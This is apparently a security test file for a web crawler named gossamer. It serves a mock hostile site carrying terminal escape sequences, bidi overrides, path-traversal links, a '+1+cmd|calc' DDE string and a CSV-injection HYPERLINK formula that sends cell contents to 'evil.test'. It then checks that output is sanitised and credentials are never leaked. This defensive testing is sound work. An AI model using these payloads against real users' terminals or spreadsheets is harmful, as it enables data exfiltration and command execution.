import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { requestsTo } from '../web/judge.js';
import { html, linkPage, pathSite, type SiteAnswer, text } from '../web/site.js';
import { box, type Crawled } from './box.js';
import { gossamer, type Run } from './support.js';

const ESC = '\u001b';
const RIGHT_TO_LEFT = '\u202e';
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")';
const page = (title: string, hrefs: string[] = []) =>
  html(`<!doctype html><title>${title}</title>${hrefs.map((href) => `<a href="${href}">${title}</a>`).join('')}`);

/** What may not reach a terminal: control characters but for tab and line break, C1 included, and what turns the direction of text. */
const UNPRINTABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Every file under a folder, as paths from there. */
function filesUnder(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

describe('a hostile site', () => {
  const own = box();
  let crawled: Crawled;
  let home: string;
  const long = `/long?${'x'.repeat(10_000)}`;
  const paths: Record<string, SiteAnswer> = {
    '/escape': page(`${ESC}[2J${ESC}]0;owned\u0007 title`),
    '/bidi': page(`${RIGHT_TO_LEFT}gpj.exe\u2066`),
    '/formula': page(FORMULA),
    '/plus': page('+1+cmd|calc'),
    '/at': page('@SUM(1)'),
    '/tab': page('\tx'),
    '/nul': page('a\u0000b\u0000'),
    '/csi': html(
      Buffer.concat([Buffer.from('<!doctype html><title>'), Buffer.from([0xc2, 0x9b]), Buffer.from('31m</title>')]),
    ),
    '/huge-title': page('T'.repeat(1024 * 1024)),
    '/type': {
      raw: `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\u009b31m\r\nContent-Length: 2\r\n\r\nhi`,
      end: 'close',
      status: 200,
    },
    '/header': {
      raw: `HTTP/1.1 200 OK${ESC}[31m\r\nX-Robots-Tag: ${ESC}[31m\r\nContent-Length: 2\r\n\r\nhi`,
      end: 'close',
      status: 200,
    },
    '/location': {
      raw: `HTTP/1.1 302 Found\r\nLocation: /moved-\u009b31m\r\nContent-Length: 0\r\n\r\n`,
      end: 'close',
      status: 302,
    },
  };

  async function run(...args: string[]): Promise<Run> {
    return gossamer(args, { cwd: home, env: { HOME: home } });
  }

  beforeAll(async () => {
    home = join(own.folder, 'home');
    mkdirSync(home);
    const odd = [
      `/x${ESC}[31m`,
      `/${RIGHT_TO_LEFT}txt`,
      '/%1b%5b31m',
      '/=1+1',
      '/..%2f..%2fetc%2fpasswd',
      '/../../../../tmp/evil',
      long,
      'http://[bad',
      `java${ESC}script:alert(1)`,
    ];
    own.web.site(
      'hostile.test',
      pathSite({
        '/robots.txt': text(
          `User-agent: *\nDisallow: /closed${ESC}[31m${RIGHT_TO_LEFT}\nDisallow: /forbidden # ${ESC}[5m\n`,
        ),
        '/': page(`${ESC}[31mHome`, [...Object.keys(paths), ...odd]),
        ...paths,
      }),
    );
    crawled = await own.crawl(
      ['http://hostile.test/'],
      ['--anchor-text', '-v', '--verbose-network', '--retries', '0', '--max-backoff', '1'],
    );
  }, 60_000);

  it('writes nothing on the terminal that steers it', () => {
    expect(crawled.run.stderr).not.toMatch(UNPRINTABLE);
    expect(crawled.run.stdout).not.toMatch(UNPRINTABLE);
  });

  it('is told apart by every command without an escape on either stream', async () => {
    const commands = [
      ['status', crawled.directory],
      ['status', crawled.directory, '--json'],
      ['list', own.folder],
      ...['jsonl', 'csv', 'edges', 'hosts', 'seeds', 'sitemap'].map((format) => [
        'export',
        crawled.directory,
        '--format',
        format,
      ]),
      ['robots', 'http://hostile.test/forbidden', ...own.web.connectTo.flatMap((mapping) => ['--connect-to', mapping])],
      [
        'robots',
        `http://hostile.test/closed${ESC}[31m${RIGHT_TO_LEFT}`,
        ...own.web.connectTo.flatMap((mapping) => ['--connect-to', mapping]),
      ],
      ['crawl', `http://bad${ESC}[31m host/`],
      ['crawl', '--no-such-option', `${ESC}[31m`],
      ['crawl', `--delay=${ESC}[31m`, 'http://hostile.test/'],
      ['resume', `/nowhere/${ESC}[31m`],
    ];
    for (const command of commands) {
      const { stdout, stderr } = await run(...command);
      expect(stderr, command.join(' ')).not.toMatch(UNPRINTABLE);
      expect(stdout.includes(ESC), `${command.join(' ')}: ${stdout.slice(0, 300)}`).toBe(false);
    }
  });

  it('gets its pages all the same, the ones with a name that is too long apart', () => {
    for (const path of ['/escape', '/bidi', '/formula', '/nul', '/csi', '/huge-title', '/tab']) {
      expect(crawled.pages.get(`http://hostile.test${path}`), path).toMatchObject({ state: 'done' });
    }
    const tooLong = [...crawled.pages.values()].filter(({ url }) => url.startsWith('http://hostile.test/long?x'));
    expect(tooLong).toMatchObject([
      { url: expect.stringMatching(/x…sha256:[0-9a-f]{64}$/), state: 'skipped', reason: 'trap' },
    ]);
    expect(crawled.summary.byClass).not.toHaveProperty('internal');
  });

  it('puts no formula in a cell of the CSV', async () => {
    const { stdout } = await run('export', crawled.directory, '--format', 'csv');
    const cells = stdout.split('\r\n').flatMap((row) => row.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []);
    const dangerous = cells
      .map((cell) => cell.replace(/^,/, '').replace(/^"/, ''))
      .filter((cell) => /^[=+@\t\r-]/.test(cell) && !/^-?\d+(?:\.\d+)?"?$/.test(cell));
    expect(dangerous).toEqual([]);
    expect(stdout).toContain('HYPERLINK');
  });

  it('has nothing written outside of the data directory', async () => {
    const { code } = await gossamer(
      [
        'crawl',
        'http://hostile.test/',
        '--data-dir',
        join(home, 'data'),
        '--delay',
        '0',
        '--retries',
        '0',
        ...own.web.connectTo.flatMap((mapping) => ['--connect-to', mapping]),
      ],
      { cwd: home, env: { HOME: home } },
    );
    expect(code).toBe(0);
    const outside = filesUnder(home).filter((file) => !file.startsWith(join(home, 'data')));
    expect(outside).toEqual([]);
    expect(
      new Set(
        readdirSync(join(home, 'data')).filter(
          (name) =>
            !/^(?:crawl\.sqlite(?:-wal|-shm)?|pages\.jsonl|sitemap\.xml|summary\.json|lock.*|.*\.lock)$/.test(name),
        ),
      ),
    ).toEqual(new Set());
  });
});

describe('secrets', () => {
  const own = box();
  const SECRETS = ['sEcReT-in-url', 'sEcReT-of-user', 'sEcReT-header', 'sEcReT-in-start-url'];
  const basic = (name: string, password: string) => Buffer.from(`${name}:${password}`).toString('base64');

  it('given in a URL, with -u or in a header reach their origins only, and no file and no terminal', async () => {
    for (const name of ['one.test', 'two.test', 'three.test', 'other.test']) {
      own.web.site(
        name,
        pathSite({
          '/': html(linkPage(name, ['http://other.test/', '/next', 'http://eve:pa55w0rd-of-a-page@one.test/next'])),
          '/next': html(linkPage('next', [])),
        }),
      );
    }
    own.web.site('away.test', pathSite({ '/': { status: 302, headers: { location: 'http://other.test/away' } } }));
    const { run, directory, summary } = await own.crawl(
      ['http://alice:sEcReT-in-url@one.test/', 'http://two.test/', 'http://alice:sEcReT-in-url@away.test/'],
      [
        '-u',
        'bob:sEcReT-of-user',
        '-H',
        'X-Token: sEcReT-header',
        '--start-url',
        'http://carol:sEcReT-in-start-url@three.test/',
        '--scope',
        'any',
        '-v',
      ],
    );
    const sent = (host: string) =>
      new Set(requestsTo(own.web.log, host).map(({ headers }) => headers.authorization ?? null));
    expect(sent('one.test')).toEqual(new Set([`Basic ${basic('alice', 'sEcReT-in-url')}`]));
    expect(sent('two.test')).toEqual(new Set([`Basic ${basic('bob', 'sEcReT-of-user')}`]));
    expect(sent('three.test')).toEqual(new Set([`Basic ${basic('carol', 'sEcReT-in-start-url')}`]));
    expect(sent('other.test')).toEqual(new Set([null]));
    expect(summary.done).toBeGreaterThan(5);

    const resumed = await gossamer(['resume', directory, '-v', '--print-config']);
    const exported = await Promise.all(
      ['jsonl', 'csv', 'edges', 'seeds', 'hosts'].map((format) => gossamer(['export', directory, '--format', format])),
    );
    const listed = await Promise.all([gossamer(['status', directory, '--json']), gossamer(['list', own.folder])]);
    const said = [run, resumed, ...exported, ...listed].flatMap(({ stdout, stderr }) => [stdout, stderr]);
    const written = filesUnder(directory).map((file) => readFileSync(file).toString('latin1'));
    const encoded = [basic('alice', SECRETS[0]!), basic('bob', SECRETS[1]!), basic('carol', SECRETS[3]!)];
    for (const secret of [...SECRETS, ...encoded]) {
      expect(
        said.some((text) => text.includes(secret)),
        secret,
      ).toBe(false);
      expect(
        written.some((bytes) => bytes.includes(secret)),
        secret,
      ).toBe(false);
    }
  });
});

describe('a title as long as a body', () => {
  const own = box();

  it('is cut, and so is a description', async () => {
    const long = 'x'.repeat(1_000_000);
    own.web.site(
      'long.test',
      pathSite({ '/': html(`<!doctype html><title>${long}</title><meta name=description content="${long}">`) }),
    );
    const { pages } = await own.crawl(['http://long.test/']);
    const { title, description } = pages.get('http://long.test/')!;
    expect([title, description]).toEqual([`${'x'.repeat(4_096)}…`, `${'x'.repeat(4_096)}…`]);
  });
});
